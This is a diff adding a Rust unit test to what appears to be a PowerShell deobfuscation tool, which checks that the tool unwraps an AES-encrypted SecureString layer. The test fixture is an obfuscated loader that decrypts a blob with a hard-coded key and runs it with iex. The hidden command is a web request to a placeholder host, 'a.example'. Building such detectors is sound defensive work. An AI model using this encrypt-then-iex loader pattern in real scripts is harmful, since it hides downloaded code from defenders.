@@ -249,6 +249,29 @@ fn powershell_flow() {
 }
 
 #[test]
+fn a_secure_string_with_its_key_is_opened() {
+    // Sealed by another program: AES-128 in CBC mode, the key one to sixteen.
+    let sealed = "76492d1116743f0423413b16050a5345MgB8AEIAdwBjAEgAQgB3AGMASABCAHcAYwBIAEIAdwBjAEgAQgB3AGMASABCAHcAPQA9AHw\
+        ANAA3ADcAYQA1AGUAMAAxAGEAZAA4AGMAOABmADcANQA0AGQANwBiADcAMAA4AGEAYQA4AGEAZgBmADIAZAA5ADUANwA5AGYANQA5AGMANwAwAD\
+        MANABkAGUAYgAyADMANQA2AGMAMAA1AGMAMwA0ADgAOABiADQAYgA5AGEANAA0AGIAMwA2AGMANQA1ADcAMwA4ADAAOAA4AGQANwA0ADYAZgA1A\
+        DMAZgA0AGEAYgAzADcAMwA3ADIAZgBmAGEANgA0ADQAYgAwAGMAMAAwADQANgAyADAAZAAxADUAMQA3AGQAZQBjADUAMwBjADAAYQBjADQAZQAx\
+        ADEAYwA0AA==";
+    let open = |key: &str| {
+        let script = format!(
+            "$s=ConvertTo-SecureString '{sealed}' -Key {key};\
+             iex([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))"
+        );
+        survey_file("x.ps1", &script, &Limits::desk())
+    };
+    let parsed = open("(1..16)");
+    assert_eq!(parsed.problems, []);
+    let command = &parsed.value.commands[0];
+    assert_eq!(command.script, "iwr http://a.example/sealed");
+    assert!(command.layers.iter().any(|layer| layer == "SecureString"), "{:?}", command.layers);
+    assert!(open("(2..17)").problems.iter().any(|problem| problem.kind == crate::ProblemKind::Unsupported));
+}
+
+#[test]
 fn shells_in_shells() {
     check(
         "",
